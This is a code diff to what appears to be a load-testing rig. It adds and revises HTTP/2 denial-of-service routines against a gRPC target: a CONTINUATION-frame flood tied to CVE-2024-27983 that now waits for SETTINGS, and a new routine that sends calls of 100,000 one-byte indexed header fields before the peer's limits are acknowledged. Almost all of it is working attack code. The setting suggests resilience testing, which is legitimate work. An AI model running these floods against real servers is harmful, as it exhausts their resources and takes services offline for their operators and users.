@@ -12,6 +12,7 @@ from loadtest.rig.raw_http2 import (
     CANCEL,
     CONTINUATION,
     END_HEADERS,
+    FRAME_BYTES,
     HEADERS,
     PING,
     RST,
@@ -22,6 +23,8 @@ from loadtest.rig.raw_http2 import (
 )
 
 BATCH = 200  # streams or frames that go out at once
+FIELDS = 100_000  # header fields of a call
+CALLS = 20  # such calls of a connection
 
 
 def rapid_reset(target: Target) -> None:
@@ -44,21 +47,48 @@ def rapid_reset(target: Target) -> None:
 
 
 def continuation_flood(target: Target) -> None:
-    """Headers that never end (CVE-2024-27983 and its kin)."""
+    """Headers that never end (CVE-2024-27983 and its kin), where the limits of headers are in force."""
     piece = b"".join(literal(f"x{number}", "y" * 100) for number in range(100))
+
+    def begun() -> RawConnection:
+        link = stack.enter_context(RawConnection(target.grpc))
+        while not link.seen[SETTINGS] and link.take_in(1.0):  # what it acknowledges amid headers would end them
+            pass
+        link.send(frame(HEADERS, 0, 1, link.headers(SELECT)))
+        return link
+
     with ExitStack() as stack:
-        links = [stack.enter_context(RawConnection(target.grpc)) for _ in range(4)]
-        for link in links:
-            link.send(frame(HEADERS, 0, 1, link.headers(SELECT)))
+        links = [begun() for _ in range(4)]
         for _ in target.turns():
             for index, link in enumerate(links):
                 if link.closed:
                     link.socket.close()
-                    links[index] = stack.enter_context(RawConnection(target.grpc))
-                    links[index].send(frame(HEADERS, 0, 1, links[index].headers(SELECT)))
+                    links[index] = begun()
                     continue
                 link.send(frame(CONTINUATION, 0, 1, piece) * 4)
                 link.take_in(0.0)
+
+
+def headers_before_limits(target: Target) -> None:
+    """Calls with 100,000 header fields each, of a byte each: until SETTINGS are acknowledged a peer may know no limit."""
+    fields = b"\x40\x01x\x00" + b"\xbe" * FIELDS  # a literal that is indexed, and its index again and again
+    pieces = [fields[at : at + FRAME_BYTES] for at in range(0, len(fields), FRAME_BYTES)]
+    with ExitStack() as stack:
+        links: list[RawConnection] = []
+        for turn in target.turns(0.02):
+            if len(links) < 4:
+                links.append(stack.enter_context(RawConnection(target.grpc, acknowledges=False)))
+            link = links[turn % len(links)]
+            if link.closed or link.next > 2 * CALLS:
+                link.socket.close()
+                links.remove(link)
+                continue
+            block = b"".join(
+                frame(CONTINUATION, END_HEADERS * (piece is pieces[-1]), link.next, piece) for piece in pieces
+            )
+            link.send(frame(HEADERS, 0, link.next, link.headers(SELECT)) + block)
+            link.next += 2
+            link.take_in(0.0)
 
 
 def control_frames(target: Target) -> None:
